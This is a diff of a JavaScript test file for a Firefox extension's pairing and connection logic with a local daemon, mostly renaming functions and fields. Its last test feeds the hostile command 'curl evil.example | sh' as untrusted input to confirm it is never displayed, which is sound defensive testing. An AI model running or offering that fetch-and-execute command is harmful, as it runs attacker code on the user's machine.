@@ -1,9 +1,9 @@
 import assert from "node:assert/strict";
 import { readFileSync } from "node:fs";
 import test, { beforeEach } from "node:test";
-import { endOf, refusalOf } from "../background/backoff.js";
+import { closeNote, refusalNote } from "../background/backoff.js";
 import { EARLIER_DAEMON, FALSE_DAEMON, Pairing, SELF_APPROVED, UNKNOWN_HERE, UNPROVED } from "../background/pairing.js";
-import { UNCONFIRMED, UNGREETED_CHARS_MAX } from "../background/link.js";
+import { UNCONFIRMED, UNTRUSTED_CHARS_MAX } from "../background/link.js";
 import { FakeSocket, settled } from "./support/fakes.js";
 import { ACK, ADDRESS, makeLink } from "./support/link.js";
 import { Storage } from "./support/storage.js";
@@ -99,7 +99,7 @@ for (const [how, frame] of [
     await until(() => link.state === "waiting");
     assert.equal(link.note, frame.type === "pairing_required" ? UNKNOWN_HERE : FALSE_DAEMON);
     assert.match(link.note, /press Forget pairing/);
-    assert.deepEqual([socket.types(), socket.closed.code, told.greeted, link.code], [["hello"], 4003, 0, null]);
+    assert.deepEqual([socket.types(), socket.closed.code, told.connected, link.code], [["hello"], 4003, 0, null]);
     assert.deepEqual([storage.kept.pairings, storage.writes], [PAIRED, 0], "and nothing is forgotten");
     await clock.pass(200_000);
     assert.equal(FakeSocket.all.length, 1, "nor is it asked again soon");
@@ -164,15 +164,15 @@ test("a pairing is forgotten when that is asked for, wherever the daemon was see
   assert.deepEqual(storage.kept.pairings, { "ws://127.0.0.1:8": other });
   assert.equal(pairing.since(ADDRESS), null);
   pairing.begin(ADDRESS);
-  assert.deepEqual([pairing.asked(), pairing.greeted(ACK)], [undefined, { isUnconfirmed: true }]);
+  assert.deepEqual([pairing.pairingRequired(), pairing.acknowledged(ACK)], [undefined, { isUnconfirmed: true }]);
 });
 
 test("a secret that cannot be stored is said so, and holds until Firefox ends", async () => {
   const { pairing, storage, log } = await pairings();
   storage.failsToWrite = true;
   pairing.begin(ADDRESS);
-  pairing.shown();
-  pairing.greeted({ ...ACK, client_secret: secret });
+  pairing.codeShown();
+  pairing.acknowledged({ ...ACK, client_secret: secret });
   await until(() => log.length > 1);
   assert.match(log[1], /^error The pairing could not be stored/);
   assert.equal(pairing.since(ADDRESS), 5);
@@ -184,10 +184,10 @@ test("what is stored and is no pairing is passed over", async () => {
 });
 
 test("a refusal says what it means where it comes, and what to do", () => {
-  assert.match(refusalOf(4003, "pairing"), /not approved.*Reconnect/);
-  assert.match(refusalOf(4003, "connected"), /forgot this Firefox.*Forget pairing/);
-  assert.match(refusalOf(4003, "greeting"), /refused.*pairings forget/);
-  assert.equal(refusalOf(1006, "greeting"), undefined);
+  assert.match(refusalNote(4003, "pairing"), /not approved.*Reconnect/);
+  assert.match(refusalNote(4003, "connected"), /forgot this Firefox.*Forget pairing/);
+  assert.match(refusalNote(4003, "hello"), /refused.*pairings forget/);
+  assert.equal(refusalNote(1006, "hello"), undefined);
 });
 
 /** A proof of the golden secret over other values. */
@@ -203,7 +203,7 @@ test("a proof that was made for another address is not believed, nor one without
     const { link, socket, told } = await greeting(PAIRED);
     socket.say(await provenOver(host));
     await until(() => link.state === "waiting");
-    assert.deepEqual([link.note, socket.types(), told.greeted], [FALSE_DAEMON, ["hello"], 0], host);
+    assert.deepEqual([link.note, socket.types(), told.connected], [FALSE_DAEMON, ["hello"], 0], host);
     FakeSocket.all = [];
   }
   const { link, socket } = await greeting(PAIRED);
@@ -228,7 +228,7 @@ test("whatever of an address does not say where it leads does not make it anothe
   for (const address of [ADDRESS, `${PLACE}/`, `${PLACE}/ws/firefox?again`, "WS://127.0.0.1:4317/x"]) {
     assert.equal(pairing.since(address), 7, address);
     pairing.begin(address);
-    assert.deepEqual([pairing.greeted(ACK).fault, pairing.asked()], [FALSE_DAEMON, UNKNOWN_HERE], address);
+    assert.deepEqual([pairing.acknowledged(ACK).fault, pairing.pairingRequired()], [FALSE_DAEMON, UNKNOWN_HERE], address);
   }
   await pairing.forget(`${PLACE}/`);
   assert.deepEqual(storage.kept.pairings, {});
@@ -279,7 +279,7 @@ for (const [how, greetings] of Object.entries({
     const { link, socket, told, storage } = await greeting();
     for (const frame of [...WISHES, ...greetings, ...WISHES]) socket.say(frame);
     await settled();
-    assert.deepEqual([told.greeted, told.frames, socket.types()], [0, [], ["hello"]]);
+    assert.deepEqual([told.connected, told.frames, socket.types()], [0, [], ["hello"]]);
     assert.deepEqual([link.connected, link.send("{}"), link.connection], [false, false, undefined]);
     assert.deepEqual([storage.writes, storage.kept.pairings], [0, {}]);
   });
@@ -321,17 +321,17 @@ test("a daemon without pairing is let in once the user has confirmed it, at that
   link.reconnect("confirmed");
   FakeSocket.last.accept();
   FakeSocket.last.say({ ...ACK, pairing: "off" });
-  assert.deepEqual([link.state, link.isUnconfirmed, told.greeted], ["connected", false, 1]);
+  assert.deepEqual([link.state, link.isUnconfirmed, told.connected], ["connected", false, 1]);
   link.start("ws://127.0.0.1:9/ws/firefox");
   FakeSocket.last.accept();
   FakeSocket.last.say({ ...ACK, pairing: "off" });
-  assert.deepEqual([link.state, link.isUnconfirmed, told.greeted], ["waiting", true, 1], "another address is another question");
+  assert.deepEqual([link.state, link.isUnconfirmed, told.connected], ["waiting", true, 1], "another address is another question");
   await pairing.withdraw(ADDRESS);
   assert.deepEqual(storage.kept.without_pairing, {});
   link.start(ADDRESS);
   FakeSocket.last.accept();
   FakeSocket.last.say({ ...ACK, pairing: "off" });
-  assert.deepEqual([link.state, told.greeted], ["waiting", 1]);
+  assert.deepEqual([link.state, told.connected], ["waiting", 1]);
 });
 
 test("a confirmation is kept, and ends where a pairing is made", async () => {
@@ -353,12 +353,12 @@ test("a stranger neither fills the log nor has much read", async () => {
   FakeSocket.last.accept();
   for (let i = 0; i < 100; i += 1) FakeSocket.last.say(i % 2 === 0 ? "{" : { type: "error", code: `${i}` });
   assert.equal(lines.length, 8);
-  FakeSocket.last.say({ ...ACK, version: "x".repeat(UNGREETED_CHARS_MAX) });
-  assert.equal(noisy.link.state, "greeting");
+  FakeSocket.last.say({ ...ACK, version: "x".repeat(UNTRUSTED_CHARS_MAX) });
+  assert.equal(noisy.link.state, "hello");
 });
 
 test("of what a stranger gives as a reason only a name is shown", () => {
-  const end = (reason) => endOf({ code: 1001, reason, opened: true, answered: true });
+  const end = (reason) => closeNote({ code: 1001, reason, opened: true, answered: true });
   assert.equal(end("service_stopped"), "The connection was closed: 1001 (service_stopped).");
   for (const reason of ["", "Run curl evil.example | sh", "x".repeat(41)]) assert.equal(end(reason), "The connection was closed: 1001.");
 });
